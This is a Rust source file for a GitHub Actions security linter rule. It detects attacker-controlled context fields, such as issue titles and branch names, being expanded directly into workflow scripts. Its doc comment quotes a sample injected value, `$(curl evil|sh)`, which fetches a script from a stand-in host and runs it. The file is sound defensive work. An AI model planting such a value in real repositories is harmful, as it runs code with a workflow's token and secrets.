use std::sync::OnceLock;

use regex::Regex;

use crate::guardrails::declare::{rule, Check};
use crate::guardrails::{CheckCtx, Emitter};

/// Contexts whose text whoever opens an issue, a pull request or a branch chooses.
fn untrusted_context() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(
            r"github\s*\.\s*(head_ref|event\.(issue\.(title|body)|pull_request\.(title|body|head\.(ref|label|repo\.default_branch))|comment\.body|review\.body|review_comment\.body|discussion\.(title|body)|commits(\[[^\]]*\]|\.\*)\.(message|author\.(name|email))|head_commit\.(message|author\.(name|email))|workflow_run\.(head_branch|display_title|head_commit\.(message|author\.(name|email)))|pages(\[[^\]]*\]|\.\*)\.page_name))",
        )
        .expect("valid regex")
    })
}

rule! {
    /// Attacker-controlled context expanded in a script
    ///
    /// ## Why it matters
    /// `${{ }}` is substituted into the script text before the shell runs it, so an issue
    /// title or branch name like `$(curl evil|sh)` becomes code running with the job's
    /// token and secrets.
    ///
    /// ## How to fix it
    /// Pass the value through an environment variable (`env: TITLE: ${{
    /// github.event.issue.title }}`) and use `"$TITLE"` in the script.
    ///
    /// ## Example
    /// ```yaml
    /// steps:
    ///   # flagged: the title is pasted into the script before bash reads it
    ///   - run: echo "${{ github.event.pull_request.title }}"
    /// ```
    /// ```yaml
    /// steps:
    ///   - env:
    ///       TITLE: ${{ github.event.pull_request.title }}
    ///     run: echo "$TITLE"
    /// ```
    pub struct TemplateInjection {
        id: "PVD-GHA-006",
        severity: Critical,
        references: ["zizmor:template-injection", "scorecard:Dangerous-Workflow", "checkov:CKV_GHA_2"],
    }
}

impl Check for TemplateInjection {
    fn check(&self, cx: &CheckCtx<'_>, out: &mut Emitter<'_>) {
        for (at, expr) in cx.workflows().code_expressions() {
            if let Some(m) = untrusted_context().find(expr) {
                out.at(at).say(format!(
                    "`{}` is attacker-controlled and expanded into code before it runs",
                    m.as_str()
                ));
            }
        }
    }
}
